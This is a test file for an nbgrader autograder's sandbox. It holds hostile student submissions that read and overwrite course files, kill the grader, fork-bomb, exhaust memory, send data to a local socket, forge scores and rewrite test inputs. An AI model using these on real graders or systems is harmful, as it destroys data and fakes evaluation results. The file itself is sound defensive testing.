"""Hostile submissions against the whole autograder (``nbgrader autograde`` with the course's
configuration), with the static check turned OFF so that the OS sandbox must stop them alone.

Each attack sits in an answer cell next to correct answers for the other tasks. Oracles: the
gradebook (the honest student's scores, the attacker's), the instructor's files compared byte
for byte before and after (``nbgrader_config.py``, ``solutions/``, the release, another
student's submission), and the graded notebook's size. Where it is safe, the same attack is
shown to work without the sandbox (``--GuardedExecute.sandbox=False``), so the test can fail;
likewise an answer that rewrites its inputs works only without the answer guard
(``--GuardedExecute.guard_answers=False``).
"""

from __future__ import annotations

import shutil
import socket
import threading
from pathlib import Path

import grading_support as gs
import nbformat
import pytest

pytestmark = pytest.mark.slow

STATIC_OFF = "--IntegrityCheck.enabled=False"
NO_SANDBOX = "--GuardedExecute.sandbox=False"
LIMITS = ("--GuardedExecute.timeout=60", "--GuardedExecute.notebook_timeout=600")

SQUARE_OK = "def square(x):\n    return np.asarray(x, dtype=float) ** 2\n"


def attacks(root: Path, port: int) -> dict[str, str]:
    """student -> the source of a `square` answer that attacks the course at ``root``."""
    gradebook, source = root / "gradebook.db", root / "solutions" / "tiny" / "tiny.ipynb"
    return {
        # full marks for `square` only if the course's files are readable
        "reads_gradebook": (
            f"_seen = open({str(gradebook)!r}, 'rb').read(16)\n"
            "def square(x):\n    return np.asarray(x, dtype=float) ** 2\n"
        ),
        "reads_solutions": (
            f"_text = open({str(source)!r}).read()\n"
            "def square(x):\n    return np.asarray(x, dtype=float) ** 2\n"
        ),
        "overwrites_course": (
            "def square(x):\n    return np.asarray(x, dtype=float) ** 2\n"
            f"for _p in [{str(gradebook)!r}, {str(root / 'nbgrader_config.py')!r}, {str(source)!r},"
            f" {str(root / 'submitted' / 'honest' / 'tiny' / 'tiny.ipynb')!r}]:\n"
            "    try:\n        open(_p, 'w').write('gone')\n"
            "    except OSError:\n        pass\n"
        ),
        "kills_grader": (
            "import signal\n"
            "for _pid in (os.getppid(), 1):\n"
            "    try:\n        os.kill(_pid, signal.SIGKILL)\n"
            "    except OSError:\n        pass\n" + SQUARE_OK
        ),
        "connects_out": (
            "import socket\n"
            f"socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
            + SQUARE_OK
        ),
        "floods_output": "print('x' * 10_000_000)\nprint('y' * 10_000_000)\n" + SQUARE_OK,
        "forks_forever": (
            SQUARE_OK + "_children = []\n"
            "for _ in range(100_000):\n"
            "    try:\n        _pid = os.fork()\n"
            "    except OSError:\n        break\n"
            "    if _pid == 0:\n        import time\n        time.sleep(60)\n        os._exit(0)\n"
            "    _children.append(_pid)\n"
            "assert len(_children) < 100_000\n"
        ),
        "eats_memory": SQUARE_OK + "_hog = [bytearray(2**30) for _ in range(200)]\n",
        # nbgrader scores a test cell by the first value it displays: forge one, then fail
        "forges_a_score": (
            "import sys\n"
            "def square(x):\n    sys.displayhook('full marks')\n    raise NotImplementedError\n"
        ),
    }


class Listener:
    """A TCP server on 127.0.0.1 that records whether anybody connected."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connected = False
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connected = True
            conn.close()

    def close(self):
        self.running = False
        self.thread.join(timeout=5)
        self.sock.close()


def _course(tmp: Path, students: dict[str, str]) -> gs.Course:
    course = gs.make_course(tmp, {"tiny": gs.tiny_assignment()})
    course.generate("tiny")
    release = course.release("tiny")
    honest = gs.solved(course.source("tiny"), release)
    course.submit("honest", "tiny", honest)
    for student, square in students.items():
        course.submit(student, "tiny", gs.with_cell_source(honest, "square_solution", square))
    # a module beside the notebook that would shadow NumPy if it were importable
    folder = course.submitted_dir("shadows_numpy", "tiny")
    course.submit("shadows_numpy", "tiny", honest)
    (folder / "numpy.py").write_text("raise SystemExit('the submitted numpy.py was imported')\n")
    return course


def _instructor_files(course: gs.Course) -> dict[str, str]:
    root = course.root
    return {
        "nbgrader_config.py": gs.tree_digest_file(root / "nbgrader_config.py"),
        "solutions": gs.tree_digest(root / "solutions"),
        "release": gs.tree_digest(root / "exercises"),
        "honest submission": gs.tree_digest(root / "submitted" / "honest"),
    }


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    """One batch, every attack, static check off, sandbox on."""
    tmp = tmp_path_factory.mktemp("attacks")
    listener = Listener()
    try:
        course = _course(tmp / "course", attacks(tmp / "course", listener.port))
        before = _instructor_files(course)
        result = course.autograde("tiny", STATIC_OFF, *LIMITS)
        yield course, result, before, listener
    finally:
        listener.close()


def test_the_batch_finishes_and_the_honest_student_keeps_full_marks(sandboxed):
    course, result, _, _ = sandboxed
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    scores = course.scores("tiny")
    full = {name: float(points) for name, points in gs.test_cells(course.source("tiny")).items()}
    assert scores["honest"] == full
    assert scores["shadows_numpy"] == full  # the submitted numpy.py was never imported


def test_instructor_files_are_unchanged_byte_for_byte(sandboxed):
    course, _, before, _ = sandboxed
    assert _instructor_files(course) == before


@pytest.mark.parametrize("student", ["reads_gradebook", "reads_solutions"])
def test_course_files_are_out_of_reach(sandboxed, student):
    course, _, _, _ = sandboxed
    assert course.scores("tiny")[student]["square_tests"] == 0.0
    assert "No such file or directory" in course.outputs_text(student, "tiny", "square_solution")


def test_no_network_connection_leaves_the_sandbox(sandboxed):
    course, _, _, listener = sandboxed
    assert not listener.connected
    assert course.scores("tiny")["connects_out"]["square_tests"] == 0.0


@pytest.mark.parametrize("student", ["kills_grader", "overwrites_course", "forks_forever"])
def test_attacks_on_the_grader_do_not_stop_the_other_tasks(sandboxed, student):
    course, _, _, _ = sandboxed
    scores = course.scores("tiny")[student]
    assert scores["cube_tests"] == 1.0 and scores["mean_rows_tests"] == 3.0, scores


def test_output_flood_is_cut_with_a_visible_note(sandboxed):
    course, _, _, _ = sandboxed
    path = course.autograded_path("floods_output", "tiny")
    assert path.stat().st_size < 5_000_000
    assert "output truncated by the autograder" in path.read_text()


def test_a_value_displayed_by_the_answer_during_a_test_scores_nothing(sandboxed):
    course, _, _, _ = sandboxed
    assert course.scores("tiny")["forges_a_score"]["square_tests"] == 0.0
    shown = course.outputs_text("forges_a_score", "tiny", "square_tests")
    assert "full marks" in shown and "NotImplementedError" in shown


def test_memory_flood_kills_only_its_kernel(sandboxed):
    course, _, _, _ = sandboxed
    scores = course.scores("tiny")["eats_memory"]
    assert scores["square_tests"] == 0.0
    assert scores["cube_tests"] == 1.0 and scores["mean_rows_tests"] == 3.0, scores


def test_without_the_sandbox_the_same_attacks_read_the_course_and_reach_the_network(tmp_path):
    """The other direction: the read and network attacks work when the sandbox is off."""
    listener = Listener()
    try:
        root = tmp_path / "course"
        chosen = {
            k: v
            for k, v in attacks(root, listener.port).items()
            if k in ("reads_gradebook", "connects_out")
        }
        course = _course(root, chosen)
        shutil.rmtree(course.submitted_dir("shadows_numpy", "tiny").parent)
        result = course.autograde("tiny", STATIC_OFF, NO_SANDBOX, *LIMITS)
        assert result.returncode == 0, result.stderr[-3000:]
        scores = course.scores("tiny")
        assert scores["reads_gradebook"]["square_tests"] == 2.0
        assert scores["connects_out"]["square_tests"] == 2.0
        assert listener.connected
    finally:
        listener.close()


def test_with_the_static_check_on_the_attacks_are_refused_before_they_run(tmp_path):
    course = _course(tmp_path / "course", attacks(tmp_path / "course", 9))
    result = course.autograde("tiny", *LIMITS)
    assert result.returncode == 0, result.stderr[-3000:]
    for student in ("reads_gradebook", "kills_grader", "connects_out", "forks_forever"):
        text = course.outputs_text(student, "tiny", "square_tests")
        assert (
            "IntegrityError" in text
            and "[rule:"
            in nbformat.read(course.autograded_path(student, "tiny"), as_version=4)
            .cells[gs.cell_index(course.release("tiny"), "square_solution")]
            .source
        ), student


# Answers that rewrite their input so that the test's expected value, computed afterwards
# from the same array (`x.mean(axis=0)` in the tiny assignment's tests), agrees with them:
# bound as a function, a lambda, a callable object, or rebound by a later cell.
ZERO_AND_MEAN = "    x[...] = 0.0\n    return np.zeros(x.shape[1])\n"
REWRITES_INPUT = {
    "rewrites_input": "def mean_rows(x):\n" + ZERO_AND_MEAN,
    "rewrites_input_lambda": "mean_rows = lambda x: (x.fill(0.0), np.zeros(x.shape[1]))[1]\n",
    "rewrites_input_object": (
        "class Rows:\n    def __call__(self, x):\n"
        + ZERO_AND_MEAN.replace("    ", "        ")
        + "mean_rows = Rows()\n"
    ),
    # bound where no assignment is seen: a walrus in an annotation, run when the def runs
    "rewrites_input_bound_in_annotation": (
        "def _rows(x):\n"
        + ZERO_AND_MEAN
        + "def _bind(unused: (mean_rows := _rows) = None):\n    return unused\n"
    ),
}
REBINDS_LATER = "def _rows(x):\n" + ZERO_AND_MEAN + "mean_rows = _rows\n"


@pytest.mark.parametrize("guard", [True, False], ids=["guarded", "unguarded"])
def test_answers_that_rewrite_their_inputs_fool_the_tests_only_without_the_guard(tmp_path, guard):
    course = gs.make_course(tmp_path / "course", {"tiny": gs.tiny_assignment()})
    course.generate("tiny")
    honest = gs.solved(course.source("tiny"), course.release("tiny"))
    course.submit("honest", "tiny", honest)
    for student, answer in REWRITES_INPUT.items():
        course.submit(student, "tiny", gs.with_cell_source(honest, "mean_rows_solution", answer))
    # an honest mean_rows, wrapped; then a cell the student added rebinds it
    course.submit(
        "rebinds_later", "tiny", gs.insert_before(honest, "mean_rows_tests", REBINDS_LATER)
    )
    unguarded = () if guard else ("--GuardedExecute.guard_answers=False",)
    result = course.autograde("tiny", STATIC_OFF, *unguarded, *LIMITS)
    assert result.returncode == 0, result.stderr[-3000:]
    scores = course.scores("tiny")
    assert scores["honest"]["mean_rows_tests"] == 3.0
    for student in [*REWRITES_INPUT, "rebinds_later"]:
        assert scores[student]["mean_rows_tests"] == (0.0 if guard else 3.0), (student, scores)


# IPython's automagic would run this line as `%time <code>`: <code> makes every later cell
# that calls `grading.` (the tiny assignment's tests) reach the kernel as `pass`.
SILENCES_TESTS = (
    "time get_ipython().input_transformers_post.append("
    "lambda lines: ['pass\\n'] if 'grading.' in ''.join(lines) else lines)"
)


@pytest.mark.parametrize("static", [True, False], ids=["static-check", "kernel-only"])
def test_a_line_ipython_would_run_as_a_magic_earns_nothing(tmp_path, static):
    """An unanswered notebook with that line added scores 0. The static check refuses the
    cell (it does not parse), so the graded notebook holds a stub with the rule instead of it;
    with the check off, grading kernels run with automagic off and the line is a SyntaxError.
    Oracle: the gradebook and the graded cell; ``test_kernels`` shows the same line running
    as a magic in a kernel with IPython's defaults, and this test's kernel-only variant fails
    without the kernel's options."""
    course = gs.make_course(tmp_path / "course", {"tiny": gs.tiny_assignment()})
    course.generate("tiny")
    release = course.release("tiny")
    course.submit("silencer", "tiny", gs.insert_before(release, "square_solution", SILENCES_TESTS))
    result = course.autograde("tiny", *(() if static else (STATIC_OFF,)), *LIMITS)
    assert result.returncode == 0, result.stderr[-3000:]
    assert gs.total(course.scores("tiny")["silencer"]) == 0.0
    graded = nbformat.read(course.autograded_path("silencer", "tiny"), as_version=4)
    added = graded.cells[gs.cell_index(release, "square_solution")].source
    if static:  # replaced by the static check's stub, never sent to the kernel
        assert "[rule: syntax-error]" in added and not added.startswith("time "), added
    else:
        assert added == SILENCES_TESTS
